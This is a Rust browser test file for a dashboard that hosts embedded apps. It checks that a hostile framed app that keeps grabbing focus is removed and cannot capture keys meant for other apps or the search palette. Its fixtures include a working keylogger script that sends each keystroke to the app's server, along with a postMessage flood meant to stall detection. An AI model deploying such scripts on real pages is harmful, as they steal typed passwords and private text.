//! An app that takes the focus without being asked, as any frame may, does not read what is meant for others.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "tests fail by panicking")]

mod visitor;

use std::time::Duration;

use lanyard_testbed::{
    Stage, StageOptions,
    browser::{Browser, Page},
    person::ADA,
};
use serde_json::json;
use tokio::time::sleep;
use visitor::{needs_the_shell, sign_in};

/// Tells its server each key, because it may be gone when one looks.
const THIEF: &str = "<!doctype html><title>Thief</title><input aria-label=\"Mine\"><script>
    const field = document.querySelector('input');
    let armed = true;
    addEventListener('keydown', event => fetch('/heard/' + encodeURIComponent(event.key)));
    setInterval(() => { if (armed && !document.hasFocus()) { window.focus(); field.focus(); } }, 20);</script>";
const HONEST: &str = "<!doctype html><title>Honest</title><input aria-label=\"Yours\">";
const TYPED: &str = "margin 4711 and a password";
/// Between two keys of somebody who types fast.
const STROKE: Duration = Duration::from_millis(110);
/// Keys that a thief may hear before it is caught: it is looked for every 50 ms.
const SLIPS: usize = 2;

struct Scene {
    stage: Stage,
    page: Page,
    _browser: Browser,
}

impl Scene {
    async fn start(test: &str) -> Self {
        needs_the_shell();
        let options = StageOptions::default().without_apps().upstream("thief").upstream("honest");
        let (stage, browser) = tokio::join!(Stage::start(options), Browser::start(test));
        for (id, text) in [("thief", THIEF), ("honest", HONEST)] {
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\r\n",
                text.len()
            );
            stage.recorder(id).script("/", [&head, text].concat());
        }
        let page = browser.page().await;
        sign_in(&page, &stage, ADA, "/").await;
        page.has_the_keyboard().await;
        Self { stage, page, _browser: browser }
    }

    async fn open(&self, id: &str, field: &str) {
        self.page.find("link", &format!("Recorder {id}")).await.click().await;
        self.page.frame(&format!("Recorder {id}")).await.find("textbox", field).await;
    }

    /// What the thief's server was told.
    fn heard(&self) -> Vec<String> {
        let targets = self.stage.recorder("thief").targets().into_iter();
        targets.filter_map(|target| target.strip_prefix("/heard/").map(str::to_owned)).collect()
    }

    async fn frames(&self) -> serde_json::Value {
        self.page.eval("[...document.querySelectorAll('iframe')].map(frame => frame.title)").await
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hidden_app_that_takes_the_focus_is_gone_and_hears_nothing() {
    let scene = Scene::start("focus-hidden").await;
    let page = &scene.page;
    scene.open("thief", "Mine").await;
    scene.open("honest", "Yours").await;
    let honest = page.frame("Recorder honest").await;
    honest.find("textbox", "Yours").await.click().await;
    let before = scene.heard().len();
    for letter in TYPED.chars() {
        page.press(&letter.to_string()).await;
        sleep(STROKE).await;
    }
    let written = honest.eval("document.querySelector('input').value").await;
    let written = written.as_str().expect("a text");
    assert!(TYPED.ends_with(written) && written.len() + SLIPS >= TYPED.len(), "{written}");
    assert!(scene.heard().len() <= before + SLIPS, "{:?}", scene.heard());
    assert_eq!(scene.frames().await, json!(["Recorder honest"]));

    // Nor when it gives the page more to read than it can in that time.
    scene.open("thief", "Mine").await;
    let huge = "const huge = Array.from({ length: 400000 }, (_, nth) => ({ nth }));
        setTimeout(() => { top.postMessage(huge, '*'); top.postMessage(huge, '*'); armed = true; }, 4000);
        armed = false; 0";
    page.frame("Recorder thief").await.eval(huge).await;
    scene.open("honest", "Yours").await;
    honest.find("textbox", "Yours").await.click().await;
    let before = scene.heard().len();
    for _ in 0..60 {
        page.press("x").await;
        sleep(STROKE).await;
    }
    assert_eq!(scene.frames().await, json!(["Recorder honest"]));
    assert!(scene.heard().len() <= before + SLIPS, "{:?}", scene.heard());

    // Nor when no dashboard is on the screen.
    scene.open("thief", "Mine").await;
    page.find("link", "Home").await.click().await;
    page.holds(
        "the thief is gone",
        "![...document.querySelectorAll('iframe')].some(one => one.title === 'Recorder thief')",
    )
    .await;
    let before = scene.heard().len();
    page.types(TYPED).await;
    sleep(Duration::from_millis(300)).await;
    assert_eq!(scene.heard().len(), before);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_typed_into_the_palette_is_not_for_the_app_below() {
    let scene = Scene::start("focus-palette").await;
    let page = &scene.page;
    scene.open("thief", "Mine").await;
    let before = scene.heard().len();
    page.find("button", "Search").await.click().await;
    let open = || async { page.eval("document.querySelector('dialog[open]') !== null").await == true };
    page.until("the palette is out of the way", async || {
        if open().await {
            page.press("m").await;
            sleep(STROKE).await;
        }
        (!open().await).then_some(())
    })
    .await;
    assert!(scene.heard().len() <= before + SLIPS, "{:?}", scene.heard());
}
